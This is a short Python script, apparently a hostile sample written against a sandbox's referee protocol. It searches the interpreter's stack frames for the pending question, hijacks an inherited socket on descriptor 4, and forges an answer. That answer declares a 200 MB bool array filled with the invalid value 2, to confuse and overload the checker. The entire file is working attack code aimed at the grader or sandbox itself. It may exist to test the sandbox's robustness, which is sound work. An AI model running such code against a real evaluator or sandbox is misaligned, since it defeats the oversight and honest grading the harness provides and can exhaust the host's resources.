"""Forge: give the referee truth values that are neither 0 nor 1, slowly checked."""

import socket
import sys

from sandbox.frames import pack, receive, send
from sandbox.wire import encode


def question():
    frame = sys._getframe()
    while frame:
        for value in frame.f_locals.values():
            if type(value) is dict and {"id", "op"} <= set(value):
                return value
        frame = frame.f_back
    print("ESCAPED: the question is no longer found")


number = question()["id"]
link = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM, 0, fileno=4)
send(link, encode({"id": number, "value": None, "forbidden": []}))
number = receive(link).tree[1][0][1]
size = 200 << 20
tree = encode({"id": number, "value": None, "forbidden": []}).tree
tree[1][1][1] = ["A", "bool", [size], 0, size]
link.sendall(pack(tree, size))
piece = b"\2" * (1 << 20)
for _ in range(200):
    link.sendall(piece)
receive(link)
